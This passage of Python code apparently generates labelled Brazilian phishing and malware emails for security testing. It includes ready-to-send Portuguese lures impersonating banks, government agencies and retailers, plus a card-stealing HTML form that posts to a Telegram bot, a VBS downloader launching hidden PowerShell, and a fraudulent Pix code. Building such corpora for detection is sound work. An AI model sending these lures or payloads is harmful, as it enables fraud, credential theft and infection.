             "C6 Bank card-blocked lure sent from a compromised small-business mailbox on Locaweb, the kit hosted on Google Cloud Storage (storage.googleapis.com) to borrow a trusted domain.",
             HOT1, "outlook", "locaweb", "C6 Bank", "contato@vidracariasaopedro.com.br",
             "Cartão C6 bloqueado - desbloqueie hoje", dt(2025, 6, 2, 11, 47, 30),
             alt(plain, html, bnd(tag, "ol16")), policy="", dkim=[("vidracariasaopedro.com.br", "default", "pass")],
             xmailer="Microsoft Outlook 16.0")
    m.client_ip = "45.154.98.117"
    add(m)

    # 9 PicPay saldo retido via Amazon SES with SES click tracking
    tag = "picpay-saldo"
    target = "https://picpay-suporte.net/liberar-saldo?u=" + lower(tag + "u", 10)
    link = ses_click(tag, target)
    paras = ["Olá, tudo bem?",
             "Seu saldo de <b>R$ 2.417,36</b> na carteira PicPay foi <b>retido</b> por inconsistência nos dados cadastrais "
             "(CPF com divergência na Receita Federal).",
             "Para liberar o valor e voltar a usar Pix, cartão e pagamentos, valide seus dados em até 48 horas. "
             "Após o prazo, o saldo será devolvido à origem e a conta encerrada.",
             "Se tiver dúvidas, acesse a Central de Ajuda pelo app."]
    foot = ["PicPay Instituição de Pagamento S.A.", "Av. Manuel Bandeira, 291 - São Paulo/SP"]
    html = esp_card(color="#11C76F", logo="https://picpay-suporte.net/static/picpay-logo-white.png", logo_alt="PicPay",
                    preheader="Valide seus dados para liberar o saldo", title="Seu saldo está retido",
                    paras=paras, button=("Liberar meu saldo", link), footer=foot)
    add(Mail(f"b{N}-phish-picpay-saldo-retido-ses", "phishing",
             "PicPay 'saldo retido por divergência de CPF' lure from a look-alike domain sent through Amazon SES, the button wrapped in SES awstrack.me click tracking.",
             GM2, "gmail", "ses", "PicPay", "nao-responda@picpay-suporte.net",
             "Seu saldo PicPay está retido: valide seus dados", dt(2025, 1, 21, 13, 8, 55),
             alt(plain_of("Seu saldo está retido", paras, ("Liberar meu saldo", link), foot), html, bnd(tag)), policy=""))

    # 10 Mercado Pago, HTML attachment credential form, from compromised Roundcube mailbox
    tag = "mp-html"
    form = ("<!DOCTYPE html>\n<html lang=\"pt-BR\"><head><meta charset=\"utf-8\"><title>Mercado Pago - Verificação de conta</title>\n"
            "<meta name=\"viewport\" content=\"width=device-width,initial-scale=1\">\n"
            "<style>body{font-family:Proxima Nova,Arial;background:#ededed;margin:0}.top{background:#009ee3;height:56px}"
            ".box{max-width:420px;margin:40px auto;background:#fff;padding:28px;border-radius:6px}"
            "input{width:100%;padding:12px;margin:8px 0;border:1px solid #ccc;border-radius:6px}"
            "button{width:100%;padding:14px;background:#009ee3;color:#fff;border:0;border-radius:6px;font-size:16px}</style></head>\n"
            "<body><div class=\"top\"></div><div class=\"box\"><h2>Confirme sua identidade</h2>\n"
            "<p>Para remover a restrição da sua conta, informe seus dados de acesso.</p>\n"
            "<form id=\"f\"><input name=\"email\" placeholder=\"E-mail ou telefone\" required>\n"
            "<input name=\"senha\" type=\"password\" placeholder=\"Senha\" required>\n"
            "<input name=\"cpf\" placeholder=\"CPF\" required>\n<input name=\"cartao\" placeholder=\"Número do cartão cadastrado\">\n"
            "<input name=\"validade\" placeholder=\"Validade (MM/AA)\"><input name=\"cvv\" placeholder=\"CVV\">\n"
            "<button type=\"submit\">Continuar</button></form></div>\n"
            "<script>\nvar _0x1a=['aHR0cHM6Ly9hcGkudGVsZWdyYW0ub3JnL2JvdDcyMTk5MzQ1MTA6QUFHdDNrWnhwUTFxSk51dnJYZ0xtVjhiTm9yU2ZXd0U1UTQvc2VuZE1lc3NhZ2U=','-1002214857730'];\n"
            "document.getElementById('f').onsubmit=function(e){e.preventDefault();var d=new FormData(this),t='MP LOG\\n';\n"
            "d.forEach(function(v,k){t+=k+': '+v+'\\n'});fetch(atob(_0x1a[0]),{method:'POST',headers:{'Content-Type':'application/json'},\n"
            "body:JSON.stringify({chat_id:_0x1a[1],text:t})}).then(function(){location.href='https://www.mercadopago.com.br/'});};\n"
            "</script></body></html>\n")
    html = ("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=UTF-8\" /></head><body style='font-size: 10pt; font-family: Verdana,Geneva,sans-serif'>\n"
            "<p>Olá,</p>\n<p>Sua conta Mercado Pago foi <strong>restringida</strong> após uma tentativa de login suspeita. "
            "Movimentações, Pix e saques estão temporariamente indisponíveis.</p>\n"
            "<p>Para remover a restrição, abra o formulário de verificação em anexo (<em>MercadoPago_Verificacao.html</em>) "
            "no seu computador e confirme os dados solicitados.</p>\n<p>Equipe Mercado Pago</p>\n</body></html>\n")
    plain = ("Olá,\n\nSua conta Mercado Pago foi restringida após uma tentativa de login suspeita. Movimentações, Pix e saques estão "
             "temporariamente indisponíveis.\n\nPara remover a restrição, abra o formulário de verificação em anexo "
             "(MercadoPago_Verificacao.html) no seu computador e confirme os dados solicitados.\n\nEquipe Mercado Pago\n")
    body = Multi("mixed", f"=_{hx(tag+'rc', 32)}", [
        Multi("alternative", f"=_{hx(tag+'rc2', 32)}", [text(plain, "plain", "quoted-printable"), text(html, "html", "quoted-printable")]),
        Leaf("text/html", form.encode(), "base64", '; name="MercadoPago_Verificacao.html"',
             'attachment; filename="MercadoPago_Verificacao.html"')])
    add(Mail(f"b{N}-phish-mercadopago-html-anexo", "phishing",
             "Mercado Pago 'conta restringida' lure from a compromised accounting-firm mailbox (Roundcube) with an HTML attachment holding a login/card form that posts to a Telegram bot.",
             UOL1, "uol", "roundcube", "Mercado Pago", "financeiro@contabilidadeprisma.com.br",
             "Sua conta Mercado Pago foi restringida", dt(2024, 9, 18, 9, 33, 12), body, policy="",
             ip="186.202.153.77", rdns="mail.contabilidadeprisma.com.br", helo="mail.contabilidadeprisma.com.br",
             dkim=[("contabilidadeprisma.com.br", "default", "pass")]))


def attacks_2():
    # 11 Livelo pontos expirando via E-goi
    tag = "livelo-egoi"
    target = "https://livelopontos-resgate.com/resgate?id=" + digits(tag + "i", 9)
    link = f"https://trk.e-goi.com/c/{alnum(tag+'c', 24)}/{alnum(tag+'c2', 10)}"
    paras = ["Olá, Mariana!",
             "Você tem <b>18.450 pontos Livelo</b> que <b>expiram em 31/01/2025</b>.",
             "Não deixe seus pontos vencerem: troque agora por produtos, viagens ou transfira para programas parceiros. "
             "Clientes selecionados ainda podem <b>converter os pontos em crédito via Pix</b> por tempo limitado.",
             "Resgate disponível somente até as 23h59 de hoje."]
    foot = ["Livelo S.A. - Você recebeu este e-mail por estar cadastrado no programa.",
            f"<a href=\"https://trk.e-goi.com/u/{alnum(tag+'u', 24)}\">Descadastrar</a>"]
    html = esp_card(color="#E2006A", logo="https://livelopontos-resgate.com/img/livelo.png", logo_alt="Livelo",
                    preheader="18.450 pontos expiram hoje", title="Seus pontos vão expirar!",
                    paras=paras, button=("Resgatar meus pontos", link), footer=foot,
                    pixel=f"https://trk.e-goi.com/o/{alnum(tag+'o', 24)}.gif")
    add(Mail(f"b{N}-phish-livelo-pontos-egoi", "phishing",
             "Livelo 'pontos expiram hoje / converta em Pix' lure sent through the E-goi ESP with its click tracker in front of a look-alike resgate domain.",
             HOT1, "outlook", "egoi", "Livelo", "ofertas@livelopontos-resgate.com",
             "Mariana, seus 18.450 pontos Livelo expiram hoje", dt(2025, 1, 31, 9, 2, 44),
             alt(plain_of("Seus pontos vão expirar!", paras, ("Resgatar meus pontos", link), foot), html, bnd(tag)), policy="",
             extra=[f"List-Unsubscribe: <https://trk.e-goi.com/u/{alnum(tag+'u', 24)}>"]))

    # 12 Esfera via free Hotmail + shortener
    tag = "esfera-hotmail"
    url = "https://cutt.ly/esfera-" + alnum(tag + "s", 6)
    html = outlook_html(
        "<div style=\"text-align:center;\"><span style=\"font-size:20pt;color:rgb(204,0,0);\"><b>ESFERA</b></span></div>"
        "<div>Prezado(a) cliente Santander,</div><div><br></div>"
        "<div>Seus <b>32.900 pontos Esfera</b> expiram <b>amanhã</b>. Resgate agora e troque por até <b>R$ 1.645,00</b> em produtos "
        "ou cashback direto na sua conta.</div><div><br></div>"
        f"<div><a href=\"{url}\" id=\"LPlnk\">{url}</a></div><div><br></div>"
        "<div>Esfera - Programa de Fidelidade Santander</div>")
    plain = ("ESFERA\n\nPrezado(a) cliente Santander,\n\nSeus 32.900 pontos Esfera expiram amanhã. Resgate agora e troque por até "
             f"R$ 1.645,00 em produtos ou cashback direto na sua conta.\n\n{url}\n\nEsfera - Programa de Fidelidade Santander\n")
    add(Mail(f"b{N}-phish-esfera-pontos-hotmail", "phishing",
             "Esfera (Santander) points-expiring lure from a free Hotmail account with a cutt.ly shortened link to the kit.",
             GM1, "gmail", "outlook", "Esfera Santander", "esfera.resgate.pontos@hotmail.com",
             "Seus 32.900 pontos Esfera expiram amanhã", dt(2024, 12, 14, 20, 45, 18),
             alt(plain, html, bnd(tag, "outlook")), policy="none", ip="40.92.42.57",
             helo="BRZPR01CU003.outbound.protection.outlook.com"))

    # 13 Smiles from a compromised travel-agency Locaweb mailbox
    tag = "smiles-agencia"
    url = "https://smiles-milhas.resgatar-agora.com/?cpf=&promo=expira"
    html = ("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=iso-8859-1\"></head><body>"
            "<table width=\"600\" align=\"center\" style=\"font-family:Arial;border:1px solid #eee;\">"
            "<tr><td style=\"background:#FF5A00;padding:16px;color:#fff;font-size:26px;\"><b>smiles</b></td></tr>"
            "<tr><td style=\"padding:22px;font-size:14px;color:#333;\">"
            "<p>Olá, cliente Smiles!</p><p>Identificamos que <b>41.200 milhas</b> da sua conta expiram nos próximos dias.</p>"
            "<p>Como benefício do <b>Clube Smiles</b>, você pode renovar a validade por mais 12 meses gratuitamente ou "
            "trocar por passagens com até 70% de desconto.</p>"
            f"<p align=\"center\"><a href=\"{url}\" style=\"background:#FF5A00;color:#fff;padding:12px 24px;text-decoration:none;\">RENOVAR MINHAS MILHAS</a></p>"
            "<p style=\"font-size:11px;color:#999;\">Smiles Fidelidade S.A. Este é um e-mail automático.</p></td></tr></table></body></html>\n")
    plain = ("Olá, cliente Smiles!\n\nIdentificamos que 41.200 milhas da sua conta expiram nos próximos dias.\n\nComo benefício do Clube Smiles, "
             "você pode renovar a validade por mais 12 meses gratuitamente ou trocar por passagens com até 70% de desconto.\n\n"
             f"RENOVAR MINHAS MILHAS: {url}\n\nSmiles Fidelidade S.A.\n")
    m = Mail(f"b{N}-phish-smiles-milhas-agencia", "phishing",
             "Smiles 'milhas expirando, renove grátis' lure sent from a compromised travel-agency mailbox on Locaweb (real SPF/DKIM pass for the agency) to a look-alike resgate domain.",
             TERRA1, "terra", "locaweb", "Smiles", "reservas@turismobelavista.com.br",
             "Suas milhas Smiles expiram em 3 dias - renove grátis", dt(2025, 4, 9, 15, 16, 2),
             Multi("alternative", bnd(tag), [text(plain, "plain", "quoted-printable", "iso-8859-1"),
                                             text(html, "html", "quoted-printable", "iso-8859-1")]),
             policy="", dkim=[("turismobelavista.com.br", "default", "pass")], charset="iso-8859-1", hmode="Q")
    m.client_ip = "189.45.12.201"
    add(m)

    # 14 LATAM Pass via compromised WordPress (PHPMailer) to Microsoft 365 company inbox, Google Sites landing
    tag = "latampass-sites"
    url = "https://sites.google.com/view/latampass-resgate-2025/inicio"
    html = ("<div style=\"font-family:Arial;max-width:600px;\"><div style=\"background:#1B0088;padding:16px;\">"
            "<span style=\"color:#fff;font-size:22px;font-weight:bold;\">LATAM Pass</span></div>"
            "<div style=\"padding:20px;font-size:15px;\"><p>Olá,</p><p>Seus <b>25.000 pontos LATAM Pass</b> estão prestes a expirar. "
            "Para resgatá-los, basta confirmar seu cadastro na nossa página oficial de resgate:</p>"
            f"<p><a href=\"{url}\">Confirmar cadastro e resgatar pontos</a></p>"
            "<p>Os pontos não resgatados até 30/06 serão cancelados.</p><p>Equipe LATAM Pass</p></div></div>\n")
    m = Mail(f"b{N}-phish-latampass-google-sites", "phishing",
             "LATAM Pass points lure mailed by PHPMailer from a hacked real-estate WordPress site, the landing page on Google Sites to borrow Google's domain.",
             MS, "m365", "phpmailer", "LATAM Pass", "noreply@imobiliariarochafort.com.br",
             "LATAM Pass: seus 25.000 pontos expiram em 30/06", dt(2025, 6, 24, 3, 11, 9),
             Multi("alternative", bnd(tag, "php"), [text(html, "html", "quoted-printable")]),
             policy="", rx_host="construtoravaledosol.com.br", dkim=[])
    m.site = "imobiliariarochafort.com.br"
    m.cpuser = "rochafor"
    add(m)

    # 15 Dotz via Brevo look-alike
    tag = "dotz-brevo"
    link = brevo_click(tag)
    paras = ["Oi, Fernanda!", "Você acumulou <b>6.780 Dotz</b> e eles <b>vencem neste domingo</b>.",
             "Troque agora por um <b>vale-compras de R$ 250</b> ou por produtos com frete grátis. "
             "Para liberar a troca, confirme seu CPF e o cartão vinculado.", "Corre que é só até domingo!"]
    foot = ["Dotz S.A.", f"<a href=\"{brevo_click(tag+'uns')}\">Não quero mais receber</a>"]
    html = esp_card(color="#F57C00", logo="https://img.mailinblue.com/9011774/images/dotz.png", logo_alt="Dotz",
                    preheader="6.780 Dotz vencem domingo", title="Seus Dotz vão vencer!", paras=paras,
                    button=("Trocar meus Dotz", link), footer=foot)
    add(Mail(f"b{N}-phish-dotz-vencimento-brevo", "phishing",
             "Dotz 'saldo vence domingo, troque por vale-compras' lure through Brevo with a tracked link to a kit that asks for CPF and card.",
             BOL1, "bol", "brevo", "Dotz", "contato@dotz-premios.com",
             "Fernanda, seus 6.780 Dotz vencem domingo", dt(2025, 8, 8, 12, 0, 4),
             alt(plain_of("Seus Dotz vão vencer!", paras, ("Trocar meus Dotz", link), foot), html, bnd(tag)), policy="",
             extra=[f"List-Unsubscribe: <{brevo_click(tag+'uns')}>", "List-Unsubscribe-Post: List-Unsubscribe=One-Click"]))

    # 16 gov.br CPF irregular via SendGrid
    tag = "govbr-cpf"
    link = sg_click(tag)
    paras = ["Prezado(a) contribuinte,",
             "Consta em nossos sistemas que o seu <b>CPF encontra-se na situação PENDENTE DE REGULARIZAÇÃO</b> por ausência de "
             "declaração ou divergência de dados (art. 12 da IN RFB nº 2.172/2024).",
             "A não regularização no prazo de <b>72 horas</b> poderá resultar no <b>cancelamento do CPF</b>, bloqueio de contas "
             "bancárias, impedimento de emissão de passaporte e de participação em concursos públicos.",
             "Consulte a situação e emita a guia de regularização (DARF) pelo portal:"]
    foot = ["Ministério da Fazenda - Receita Federal do Brasil", "Mensagem automática enviada pelo sistema gov.br. Não responda."]
    html = esp_card(color="#1351B4", logo="https://govbr-regularize.com/static/govbr-logo.png", logo_alt="gov.br",
                    preheader="Regularize seu CPF em até 72 horas", title="Notificação: CPF pendente de regularização",
                    paras=paras, button=("Consultar situação do CPF", link), footer=foot,
                    font="Rawline, Raleway, Arial, sans-serif")
    add(Mail(f"b{N}-phish-govbr-cpf-irregular", "phishing",
             "gov.br / Receita Federal 'CPF pendente de regularização, será cancelado em 72h' lure from a look-alike domain via SendGrid leading to a fake DARF payment page.",
             HOT2, "outlook", "sendgrid", "gov.br | Receita Federal", "notificacao@govbr-regularize.com",
             "Notificação: seu CPF está pendente de regularização", dt(2025, 4, 28, 10, 12, 51),
             alt(plain_of("Notificação: CPF pendente de regularização", paras, ("Consultar situação do CPF", link), foot),
                 html, bnd(tag, "sg")), policy=""))

    # 17 Restituição IRPF from a compromised school Google Workspace account
    tag = "receita-restituicao"
    url = "https://restituicao-irpf.receita-lote.com/consulta?lote=5"
    paras = ["<b>RECEITA FEDERAL DO BRASIL</b>", "",
             "Prezado(a) contribuinte,", "",
             "Informamos que a sua restituição do <b>Imposto de Renda Pessoa Física 2025</b> foi incluída no <b>5º lote residual</b>, "
             "no valor de <b>R$ 2.864,19</b>.", "",
             "Identificamos, porém, que os dados bancários informados na declaração estão desatualizados. Para receber o crédito via "
             "chave Pix vinculada ao CPF, confirme seus dados no link abaixo:", "",
             f"<a href=\"{url}\">{url}</a>", "",
             "O valor não resgatado será devolvido ao Tesouro Nacional em 10 dias.", "",
             "Atenciosamente,", "Secretaria Especial da Receita Federal"]
    plain = "\n".join(p.replace("<b>", "").replace("</b>", "") if not p.startswith("<a") else url for p in paras) + "\n"
    add(Mail(f"b{N}-phish-restituicao-irpf-escola", "phishing",
             "Receita Federal 'restituição IRPF 2025 no lote residual, confirme seus dados bancários' lure sent from a compromised private-school Google Workspace account (passes SPF/DKIM/DMARC) to a look-alike domain.",
             GM2, "gmail", "gws", "Receita Federal", "secretaria@colegiosaobentoeducacional.com.br",
             "Restituição IRPF 2025 - 5º lote residual - valor disponível", dt(2025, 9, 23, 6, 54, 20),
             alt(plain, gmail_html(paras), bnd(tag, "gmail")), policy="quarantine"))

    # 18 Malha fina intimação with ZIP/VBS dropper
    tag = "malha-vbs"
    vbs = ("' Intimacao eletronica - visualizador\r\n"
           "On Error Resume Next\r\n"
           "Dim a, b, c, d\r\n"
           "a = Chr(104) & Chr(116) & Chr(116) & Chr(112) & Chr(115) & \":\" & \"//\"\r\n"
           "b = \"cdn-intimacoes-rfb\" & \".\" & \"com/app/\"\r\n"
           "c = \"p\" & \"o\" & \"w\" & \"e\" & \"r\" & \"s\" & \"h\" & \"e\" & \"l\" & \"l\"\r\n"
           "d = c & \" -w hidden -ep bypass -c \"\"$u='\" & a & b & \"up.ps1';iex ((New-Object Net.WebClient).DownloadString($u))\"\"\"\r\n"
           "Set s = CreateObject(\"WScript.Shell\")\r\n"
           "s.Run d, 0, False\r\n"
           "MsgBox \"Documento indisponivel no momento. Tente novamente mais tarde.\", 48, \"Receita Federal\"\r\n")
    z = files.zip_archive([("Intimacao_Malha_Fina_IRPF2025.vbs", vbs.encode("latin-1"))])
    html = ("<html><body><div style=\"font-family:Arial;font-size:14px;\">"
            "<p><b>MINISTÉRIO DA FAZENDA<br>SECRETARIA ESPECIAL DA RECEITA FEDERAL DO BRASIL</b></p>"
            "<p><b>TERMO DE INTIMAÇÃO FISCAL Nº " + digits(tag + "n", 7) + "/2025</b></p>"
            "<p>Contribuinte,</p><p>Sua Declaração de Ajuste Anual IRPF 2025 foi <b>retida em malha fiscal</b> por divergência entre os "
            "rendimentos declarados e as informações prestadas pelas fontes pagadoras (DIRF/eSocial).</p>"
            "<p>Segue em anexo o Termo de Intimação com a relação de documentos a serem apresentados no prazo de <b>20 dias</b>, "
            "sob pena de lançamento de ofício com multa de 75%.</p>"
            "<p>Senha para abertura do arquivo: <b>2025</b></p>"
            "<p>Atenciosamente,<br>Delegacia da Receita Federal - DRF<br>e-CAC - Centro Virtual de Atendimento</p></div></body></html>\n")
    body = Multi("mixed", bnd(tag), [text(html, "html", "quoted-printable"),
                                     attachment("application/zip", "Intimacao_Malha_Fina_IRPF2025.zip", z)])
    add(Mail(f"b{N}-phish-malha-fina-zip-vbs", "malware",
             "Receita Federal 'termo de intimação, declaração retida em malha fina' message from a look-alike domain carrying a ZIP with a VBS downloader that launches hidden PowerShell (banking-trojan first stage).",
             LW, "locaweb", "postfix", "Receita Federal do Brasil", "intimacao@receita-ecac.info",
             "Termo de Intimação Fiscal - Declaração IRPF 2025 retida em malha", dt(2025, 8, 19, 8, 3, 33), body,
             ip="89.44.201.36", rdns=None, helo="mail.receita-ecac.info",
             dkim=[("receita-ecac.info", "mail", "pass")], policy=""))


def boleto_line(tag: str, bank: str) -> str:
    d = digits(tag + "bl", 44)
    return f"{bank}9{d[0:1]}.{d[1:5]}{d[5]} {d[6:11]}.{d[11:17]} {d[17:22]}.{d[22:28]} {d[28]} {d[29:43]}"


def pix_emv(key: str, name: str, city: str, amount: str, txid: str) -> str:
    def f(i, v):
        return f"{i}{len(v):02d}{v}"
    gui = f("00", "br.gov.bcb.pix") + f("01", key)
    payload = (f("00", "01") + f("26", gui) + f("52", "0000") + f("53", "986") + f("54", amount) + f("58", "BR") +
               f("59", name) + f("60", city) + f("62", f("05", txid)) + "6304")
    crc = 0xFFFF
    for ch in payload.encode():
        crc ^= ch << 8
        for _ in range(8):
            crc = ((crc << 1) ^ 0x1021) if crc & 0x8000 else crc << 1
            crc &= 0xFFFF
    return payload + f"{crc:04X}"


def attacks_3():
    # 19 SENATRAN multa via SES
    tag = "senatran-nai"
    target = "https://senatran-notificacao.com/infracoes/consulta?auto=" + upper(tag + "a", 9)
    link = ses_click(tag, target)
    auto = "R" + digits(tag + "auto", 9)
    paras = ["Prezado(a) condutor(a),",
             f"Foi registrada a <b>Notificação de Autuação nº {auto}</b> vinculada ao seu CPF, referente à infração "
             "<b>Art. 218, I - Transitar em velocidade superior à máxima permitida em até 20%</b>.",
             "<b>Valor:</b> R$ 130,16 &nbsp;|&nbsp; <b>Pontuação:</b> 4 pontos<br><b>Pague com 40% de desconto via Pix</b> pelo Sistema de "
             "Notificação Eletrônica (SNE) até a data de vencimento.",
             "Após o vencimento, o valor será inscrito em dívida ativa e a CNH poderá ser suspensa."]
    foot = ["Secretaria Nacional de Trânsito - SENATRAN", "Ministério dos Transportes"]
    html = esp_card(color="#071D41", logo="https://senatran-notificacao.com/img/senatran.png", logo_alt="SENATRAN",
                    preheader="Pague com 40% de desconto via SNE", title="Notificação de Autuação de Infração de Trânsito",
                    paras=paras, button=("Consultar e pagar com desconto", link), footer=foot)
    add(Mail(f"b{N}-phish-senatran-multa-pix", "phishing",
             "SENATRAN 'notificação de autuação, pague com 40% de desconto via Pix no SNE' lure from a look-alike domain sent through Amazon SES to a fake Pix payment page.",
             HOT1, "outlook", "ses", "SENATRAN - Notificação Eletrônica", "sne@senatran-notificacao.com",
             f"Notificação de Autuação {auto} - pague com 40% de desconto", dt(2025, 10, 14, 16, 27, 40),
             alt(plain_of("Notificação de Autuação de Infração de Trânsito", paras, ("Consultar e pagar com desconto", link), foot),
                 html, bnd(tag)), policy=""))

    # 20 IPVA with PDF carrying a Pix copia-e-cola, PHPMailer
    tag = "ipva-pix-pdf"
    emv = pix_emv("a3f1c9e2-77b4-4d2e-9a41-5c0e8b2d7f16", "REGULARIZA SERVICOS DIGI", "SAO PAULO", "1873.42", "IPVA2025" + digits(tag, 6))
    lines = ["GOVERNO DO ESTADO DE SAO PAULO - SECRETARIA DA FAZENDA E PLANEJAMENTO",
             "AVISO DE DEBITO - IPVA 2025", "",
             "Placa: FQK-3D27     Renavam: 01189273645", "Exercicio: 2025    Parcelas em aberto: 3/3",
             "Valor principal: R$ 1.702,98   Multa/juros: R$ 170,44", "VALOR TOTAL PARA QUITACAO: R$ 1.873,42", "",
             "Evite a inscricao na divida ativa (CADIN) e a apreensao do veiculo em blitz.",
             "Pague via Pix Copia e Cola (credito imediato):", ""]
    lines += [emv[i:i + 80] for i in range(0, len(emv), 80)]
    lines += ["", "Vencimento: 12/03/2025", "Documento gerado eletronicamente - SEFAZ-SP"]
    pdf = files.pdf(lines, title="Aviso de Debito IPVA 2025")
    html = ("<p>Prezado(a) proprietário(a),</p><p>Consta débito de <b>IPVA 2025</b> em aberto para o veículo de placa <b>FQK-3D27</b>.</p>"
            "<p>Segue em anexo o aviso de débito com o <b>código Pix para quitação com desconto</b>. Após 12/03/2025 o débito "
            "será inscrito em dívida ativa e o licenciamento ficará bloqueado.</p><p>Secretaria da Fazenda e Planejamento - SP</p>\n")
    plain = ("Prezado(a) proprietário(a),\n\nConsta débito de IPVA 2025 em aberto para o veículo de placa FQK-3D27.\n\n"
             "Segue em anexo o aviso de débito com o código Pix para quitação com desconto. Após 12/03/2025 o débito será inscrito "
             "em dívida ativa e o licenciamento ficará bloqueado.\n\nSecretaria da Fazenda e Planejamento - SP\n")
    body = Multi("mixed", bnd(tag, "php"), [Multi("alternative", bnd(tag + "a", "php"), [text(plain, "plain", "quoted-printable"),
                                                                                     text(html, "html", "quoted-printable")]),
                                            attachment("application/pdf", "Aviso_Debito_IPVA_2025_FQK3D27.pdf", pdf)])
    m = Mail(f"b{N}-phish-ipva-pdf-pix", "phishing",
             "SEFAZ-SP IPVA 2025 debt notice mailed by PHPMailer from a hacked site, with a PDF whose Pix copia-e-cola pays a third-party company instead of the state.",
             GM1, "gmail", "phpmailer", "SEFAZ-SP IPVA", "ipva@sefaz-debitos.com",
             "IPVA 2025 em atraso - placa FQK-3D27 - evite dívida ativa", dt(2025, 3, 6, 11, 39, 5), body, policy="",
             ip="162.241.61.214", spf="pass")
    m.site = "clinicadrmarcosvet.com.br"
    m.cpuser = "clinic47"
    add(m)

    # 21 Correios taxa de importação, own VPS
    tag = "correios-taxa"
    code = f"NL{digits(tag+'c', 9)}BR"
    url = f"https://correios-encomendas.top/rastreio/{code}"
    inner = ("<div style=\"max-width:600px;margin:auto;font-family:Arial;\"><div style=\"background:#FFD400;padding:14px;\">"
             "<img src=\"https://correios-encomendas.top/img/logo-correios.svg\" height=\"32\" alt=\"Correios\"></div>"
             "<div style=\"padding:20px;border:1px solid #eee;\"><h3 style=\"color:#00416B;\">Sua encomenda está aguardando pagamento</h3>"
             f"<p>Objeto: <b>{code}</b><br>Origem: China<br>Situação: <b>Aguardando pagamento de tributos</b></p>"
             "<p>Conforme o Programa Remessa Conforme, sua encomenda internacional foi tributada pela Receita Federal. "
             "Valor a pagar: <b>R$ 67,90</b> (Imposto de Importação + despacho postal).</p>"
             "<p>O pagamento deve ser realizado em até 3 dias úteis, caso contrário o objeto será devolvido ao remetente.</p>"
             f"<p><a href=\"{url}\" style=\"background:#00416B;color:#fff;padding:12px 22px;text-decoration:none;\">Pagar e liberar encomenda</a></p>"
             "<p style=\"font-size:11px;color:#777;\">Empresa Brasileira de Correios e Telégrafos</p></div></div>")
    add(Mail(f"b{N}-phish-correios-taxa-importacao", "phishing",
             "Correios 'encomenda aguardando pagamento de tributos R$ 67,90' (Remessa Conforme) lure from a .top look-alike on a VPS without reverse DNS, leading to a Pix payment kit.",
             UOL1, "uol", "postfix", "Correios", "rastreamento@correios-encomendas.top",
             f"Objeto {code} aguardando pagamento de tributos", dt(2024, 8, 12, 18, 20, 57),
             Multi("alternative", bnd(tag), [text(kit_html(inner, "Correios"), "html", "base64")]),
             ip="194.87.31.120", rdns=None, helo="mail.correios-encomendas.top",
             dkim=[("correios-encomendas.top", "default", "pass")], policy=""))

    # 22 Jadlog via Mailgun
    tag = "jadlog-mg"
    link = mg_click(tag, "mg.jadlog-entregas.com")
    paras = ["Olá,", "Tentamos entregar o seu pedido hoje, mas <b>não havia ninguém no endereço</b>.",
             f"Pedido: <b>{digits(tag+'p', 14)}</b><br>Transportadora: Jadlog .Package",
             "Para agendar uma nova tentativa, confirme o endereço e pague a taxa de reentrega de <b>R$ 9,90</b>. "
             "Sem o reagendamento em 48h o objeto retorna ao centro de distribuição."]
    foot = ["Jadlog Logística S.A."]
    html = esp_card(color="#C8102E", logo="https://mg.jadlog-entregas.com/logo.png", logo_alt="Jadlog",
                    preheader="Reagende sua entrega", title="Entrega não realizada", paras=paras,
                    button=("Reagendar entrega", link), footer=foot)
    add(Mail(f"b{N}-phish-jadlog-reentrega-mailgun", "phishing",
             "Jadlog 'entrega não realizada, pague R$ 9,90 de reentrega' lure through Mailgun from a look-alike domain to a card-harvesting kit.",
             TERRA1, "terra", "mailgun", "Jadlog", "entregas@mg.jadlog-entregas.com",
             "Entrega não realizada - reagende em até 48h", dt(2025, 11, 3, 14, 55, 31),
             alt(plain_of("Entrega não realizada", paras, ("Reagendar entrega", link), foot), html, bnd(tag)), policy=""))

    # 23 Serasa limpa nome via SendGrid
    tag = "serasa-acordo"
    link = sg_click(tag)
    paras = ["Olá, Fernanda.",
             "Você possui uma dívida com <b>BANCO BRADESCARD</b> no valor original de <b>R$ 4.318,77</b>.",
             "Durante o <b>Feirão Limpa Nome</b>, você pode quitar por apenas <b>R$ 97,40</b> à vista no Pix (desconto de 98%) "
             "e ter o nome limpo em até 5 dias úteis.",
             "Oferta válida somente até amanhã."]
    foot = ["Serasa Limpa Nome", "Você recebeu este e-mail porque possui cadastro ativo."]
    html = esp_card(color="#E80070", logo="https://serasa-acordo.com/assets/serasa.png", logo_alt="Serasa",
                    preheader="Quite por R$ 97,40 no Pix", title="Feirão Limpa Nome: 98% de desconto", paras=paras,
                    button=("Ver minha oferta", link), footer=foot)
    add(Mail(f"b{N}-phish-serasa-limpa-nome-pix", "phishing",
             "Serasa 'Feirão Limpa Nome, quite R$ 4.318 por R$ 97 no Pix' fake-settlement lure via SendGrid from a look-alike domain collecting Pix payments.",
             BOL1, "bol", "sendgrid", "Serasa Limpa Nome", "acordo@serasa-acordo.com",
             "Fernanda, quite sua dívida por R$ 97,40 - só até amanhã", dt(2025, 3, 18, 9, 15, 7),
             alt(plain_of("Feirão Limpa Nome: 98% de desconto", paras, ("Ver minha oferta", link), foot), html, bnd(tag, "sg")),
             policy=""))

    # 24 Mercado Livre fake purchase confirmation via SES
    tag = "ml-compra"
    target = "https://mercadolivre-compras.com/cancelar?pedido=" + digits(tag + "p", 16)
    link = ses_click(tag, target)
    paras = ["Olá!", "Recebemos a sua compra e o pagamento foi <b>aprovado</b>.",
             f"<b>Apple iPhone 15 Pro Max (256 GB) - Titânio natural</b><br>1 unidade - R$ 8.499,00<br>Pedido nº {digits(tag+'p', 16)}",
             "Entrega prevista: quinta-feira, no endereço Rua Augusta, 1508 - São Paulo/SP.",
             "<b>Não reconhece esta compra?</b> Cancele agora para receber o estorno:"]
    foot = ["Mercado Livre - Av. das Nações Unidas, 3003 - Osasco/SP"]
    html = esp_card(color="#FFE600", logo="https://mercadolivre-compras.com/img/ml-logo.png", logo_alt="Mercado Livre",
                    preheader="Pagamento aprovado", title="Compra confirmada", paras=paras,
                    button=("Não reconheço esta compra", link), footer=foot)
    add(Mail(f"b{N}-phish-mercadolivre-compra-falsa", "phishing",
             "Mercado Livre fake 'compra aprovada de iPhone R$ 8.499' notice via Amazon SES whose 'não reconheço esta compra' button leads to a credential/card kit on a look-alike domain.",
             HOT2, "outlook", "ses", "Mercado Livre", "compras@mercadolivre-compras.com",
